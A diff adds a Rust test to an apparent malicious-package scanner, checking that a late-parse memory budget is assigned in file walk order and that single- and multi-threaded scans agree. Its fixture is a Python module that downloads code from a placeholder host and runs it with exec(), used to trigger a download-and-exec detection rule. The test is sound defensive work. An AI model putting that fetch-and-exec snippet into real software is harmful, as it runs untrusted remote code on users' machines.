@@ -295,6 +295,36 @@ fn module_that_cannot_act_but_calls_one_that_does_is_parsed() {
 }
 
 #[test]
+fn late_parse_budget_is_taken_in_walk_order() {
+    // 17 MiB of modules that import but cannot act fill the 16 MiB kept for late parses. The
+    // room goes to files in walk order, whatever thread analyses them: `engine` before the
+    // padding is kept and parsed; after it, it is not (the budget bounds memory). Either way
+    // one thread and three agree.
+    let init = "from . import engine\n";
+    let engine = "from . import driver\n\ndriver.start()\n";
+    let driver =
+        "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";
+    let pad = format!("import json\n{}", "# padding line of a large generated module\n".repeat(24 << 10));
+    let pads: Vec<String> = (0..17).map(|i| format!("demo/pad{i:02}.py")).collect();
+    let threaded = Scanner::new(ScanConfig { member_threads: 3, ..ScanConfig::default() }).unwrap();
+    for engine_first in [true, false] {
+        let mut files = vec![("demo/__init__.py", init), ("demo/driver.py", driver)];
+        if engine_first {
+            files.push(("demo/engine.py", engine));
+        }
+        files.extend(pads.iter().map(|p| (p.as_str(), pad.as_str())));
+        if !engine_first {
+            files.push(("demo/engine.py", engine));
+        }
+        let data = wheel(&files);
+        let one = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+        let three = threaded.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+        assert_eq!(rules_of(&one), rules_of(&three), "engine first: {engine_first}");
+        assert_eq!(rules_of(&one).contains(&"py-import-download-exec"), engine_first, "{:#?}", one.findings);
+    }
+}
+
+#[test]
 fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
     // `__init__` and the host-details helper name nothing that acts, so they are held back
     // unparsed; the network module makes the package one that can act, and the held files are
